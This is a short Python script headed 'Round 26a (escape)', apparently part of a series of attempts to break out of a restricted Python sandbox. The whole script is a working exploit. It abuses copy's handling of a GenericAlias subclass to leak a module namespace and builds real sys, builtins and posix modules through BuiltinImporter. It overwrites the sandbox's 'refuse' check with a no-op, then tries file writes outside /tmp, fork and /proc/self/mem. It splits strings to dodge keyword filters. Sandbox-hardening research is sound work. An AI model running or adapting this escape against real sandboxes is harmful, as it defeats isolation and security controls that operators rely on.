# Round 26a (escape): __slotnames__ on a library subclass made copy's C code read any attribute unguarded; a types.GenericAlias subclass forwarded reads to a module, and copy handed its real namespace over (then BuiltinImporter.create_module made real posix/sys, the wall off).
import copy, math, operator
got = []
class Sink:
    def __setstate__(self, st):
        got.append(st)
class G(type(list[int])):
    __slots__ = ('__red' + 'uce__',)
    def __new__(cls, *a):
        return super().__new__(cls, Sink(), ())
g = type(list[int]).__new__(G, math, ())
copy.copy(g)
ns = got[0]
loader = ns['__load' + 'er__']
Spec = type(ns['__sp' + 'ec__'])
s = loader.create_module(Spec('sys', loader))
insp = s.modules['inspect']
strict = insp.getclosurevars(type(operator.attrgetter('real')).__call__).nonlocals['strict_getattr']
cv = insp.getclosurevars(strict).nonlocals
rg = cv['real_getattr']
cell = [c for c in rg(cv['check_name'], '__clo' + 'sure__') if rg(rg(c, 'cell_' + 'contents'), '__name__', None) == 'refuse'][0]
b = loader.create_module(Spec('builtins', loader))
rg(b, 'set' + 'attr')(cell, 'cell_' + 'contents', lambda *a, **k: None)
px = loader.create_module(Spec('posix', loader))
try:
    fd = px.open("/tmp/../opt/x", 0o101, 0o600)
    print("PW" + "NED: wrote outside /tmp? fd", fd)
except Exception as e:
    print("write outside tmp:", type(e).__name__, e)
for p in ("/dev/shm/x",):
    try:
        fd = px.open(p, 0o101, 0o600); px.write(fd, b"hi"); px.close(fd)
        print("PW" + "NED: wrote", p, "(run-time wall off; container allows it)")
    except Exception as e:
        print(p, type(e).__name__, e)
try:
    print("fork:", px.fork())
except Exception as e:
    print("fork:", type(e).__name__, e)
try:
    fd = px.open("/proc/self/mem", 0)
    print("mem fd", fd)
except Exception as e:
    print("mem:", type(e).__name__, e)
